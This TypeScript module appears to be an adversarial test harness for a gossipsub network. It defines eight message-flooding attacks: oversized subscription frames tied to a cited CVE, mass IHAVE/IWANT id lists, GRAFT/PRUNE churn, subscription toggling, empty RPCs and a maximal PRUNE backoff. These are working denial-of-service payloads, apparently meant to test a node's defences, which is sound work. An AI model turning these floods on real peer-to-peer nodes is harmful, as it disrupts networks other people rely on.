/** What gossipsub's own messages can be abused for. */
import { randomBytes } from "node:crypto";
import { topicTable } from "@quorate/gossip/core";
import type { Field } from "./field.ts";
import { control, graft, ihave, iwant, prune, rpc, subscription, varint } from "./rpc.ts";

const MIB = 1_048_576;
const ID_BYTES = 20;

interface Told {
  readonly topic: string;
  readonly turn: number;
}

/** RPCs at the order's pace; `offence` where no honest peer ever sends one of them. */
function speaking(what: string, offence: boolean, make: (told: Told) => Uint8Array) {
  return async (field: Field): Promise<void> => {
    await field.siege(
      field.order.hosts,
      () => ({}),
      async (assailant) => {
        const { stranger } = assailant;
        const { gossip } = stranger;
        const topic = topicTable(stranger.theirs.genesisHash).name.votes;
        await stranger.write(gossip, rpc(subscription(topic, true)));
        let turn = 0;
        await field.flood(assailant, field.order.perSecond / field.order.hosts, async () => {
          if (offence) assailant.offend();
          const bytes = make({ topic, turn: turn++ });
          if (!(await stranger.write(gossip, bytes))) return 0;
          field.sent(what);
          field.sent("bytes", bytes.length);
          return 1;
        });
      },
    );
  };
}

const ids = (count: number): Uint8Array[] => {
  const bytes = randomBytes(count * ID_BYTES);
  return Array.from({ length: count }, (_, i) => bytes.subarray(i * ID_BYTES, (i + 1) * ID_BYTES));
};

const stranger = (turn: number, i: number): string => `${turn}-${i}-`.padEnd(64, "x");

/** CVE-2026-46679: frames of 4 MiB full of topics that nobody knows. */
const subscriptionsOf4MiB = speaking("frames of 4 MiB", true, ({ turn }) => {
  const one = subscription(stranger(turn, 0), true);
  const count = Math.ceil((4 * MIB) / one.length);
  return rpc(...Array.from({ length: count }, (_, i) => subscription(stranger(turn, i % 1000), true)));
});

/** The same within the bound of a frame. */
const subscriptionsOf1MiB = speaking("frames of 1 MiB", true, ({ turn }) =>
  rpc(...Array.from({ length: 13_000 }, (_, i) => subscription(stranger(turn, i), true))),
);

const ihaves = speaking("IHAVE of 1,000 ids", true, ({ topic }) => rpc(control(ihave(topic, ids(1000)))));
const iwants = speaking("IWANT of 1,000 ids", true, () => rpc(control(iwant(ids(1000)))));
const grafts = speaking("GRAFT and PRUNE", true, ({ topic, turn }) =>
  rpc(control(turn % 2 === 0 ? graft(topic) : prune(topic, 1n))),
);
const toggles = speaking("subscriptions on and off", true, ({ topic, turn }) =>
  rpc(subscription(topic, turn % 2 === 1)),
);
const nothings = speaking("empty RPCs", true, () => varint(0));
const endlessBackoff = speaking("PRUNE with a backoff of 2^64-1", true, ({ topic }) =>
  rpc(control(prune(topic, 2n ** 64n - 1n))),
);

export const ATTACKS = {
  "subscriptions-4-mib": subscriptionsOf4MiB,
  "subscriptions-1-mib": subscriptionsOf1MiB,
  ihave: ihaves,
  iwant: iwants,
  "graft-prune": grafts,
  toggles: toggles,
  "empty-rpcs": nothings,
  "endless-backoff": endlessBackoff,
} as const;
